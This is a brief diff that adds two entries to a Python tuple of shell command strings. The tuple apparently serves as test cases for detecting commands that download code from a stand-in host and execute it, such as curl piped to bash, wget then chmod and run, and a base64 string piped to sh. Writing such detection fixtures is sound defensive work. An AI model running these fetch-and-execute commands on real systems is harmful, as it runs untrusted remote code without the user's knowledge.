@@ -33,6 +33,8 @@ RUN = (
     "curl -s https://x.example/a |\n  bash",
     "curl -so /tmp/i.sh https://x.example/i && sh /tmp/i.sh",
     "wget https://x.example/tool -O tool\nchmod +x tool\n./tool",
+    "wget -q https://x.example/a/install.sh\nbash install.sh",
+    "wget https://x.example/tool?v=2 && chmod +x tool\n./tool",
     "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | sh",
     "npx https://x.example/pkg.tgz",
     "curl -s https://x.example/a | tee /tmp/x | sh",
